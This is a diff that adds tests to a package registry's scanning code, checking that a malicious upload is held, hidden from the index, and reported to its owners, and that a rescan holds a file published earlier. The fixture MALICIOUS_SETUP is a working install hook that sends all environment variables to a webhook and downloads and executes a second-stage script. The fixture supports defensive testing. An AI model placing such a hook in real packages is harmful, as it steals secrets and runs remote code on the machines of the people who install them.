@@ -122,3 +122,48 @@ def test_survey_lists_projects_using_a_module(capsys: Any, upload: Any, token: s
     rows = [json.loads(line) for line in out.splitlines()]
     assert [r["project"] for r in rows] == ["samplepkg"]
     assert any("sign" in name for fns in rows[0]["modules"].values() for name in fns)
+
+
+MALICIOUS_SETUP = b"""import os, base64, urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+class Evil(install):
+    def run(self):
+        data = base64.b64encode(repr(dict(os.environ)).encode())
+        urllib.request.urlopen("https://discord.com/api/webhooks/1/abc", data=data)
+        exec(urllib.request.urlopen("http://203.0.113.9/stage2.py").read())
+        install.run(self)
+
+setup(name="samplepkg", version="1.0", cmdclass={"install": Evil})
+"""
+
+
+def test_malicious_upload_is_held_and_owners_notified(upload: Any, token: str, client: Any, mailoutbox: Any) -> None:
+    dist = builders.sdist("samplepkg", "1.0", extra_members={"samplepkg-1.0/setup.py": MALICIOUS_SETUP})
+    assert upload(dist, token).status_code == 200
+    file = File.objects.get()
+    assert file.state == File.HELD and file.scan_verdict == "malicious"
+    assert client.get(f"/packages/{file.storage_key}").status_code == 404
+    assert "samplepkg-1.0.tar.gz" not in client.get("/simple/samplepkg/").content.decode()
+    assert any("samplepkg-1.0.tar.gz was held" in m.subject for m in mailoutbox)
+    assert "alice@example.com" in {r for m in mailoutbox for r in m.to}
+
+
+def test_rescan_holds_what_is_now_malicious(capsys: Any, upload: Any, token: str, settings: Any) -> None:
+    from django.db import transaction
+
+    from bastion.packages import services
+
+    dist = builders.sdist("samplepkg", "1.0", extra_members={"samplepkg-1.0/setup.py": MALICIOUS_SETUP})
+    assert upload(dist, token).status_code == 200
+    file = File.objects.get()
+    with transaction.atomic():  # as if it had been published under older rules
+        services.publish_file(file)
+    file.refresh_from_db()
+    assert file.state == File.PUBLISHED
+    code, out, _ = run(capsys, "rescan", "--json")
+    assert code == 0
+    assert json.loads(out.splitlines()[0])["outcome"] == "held"
+    file.refresh_from_db()
+    assert file.state == File.HELD
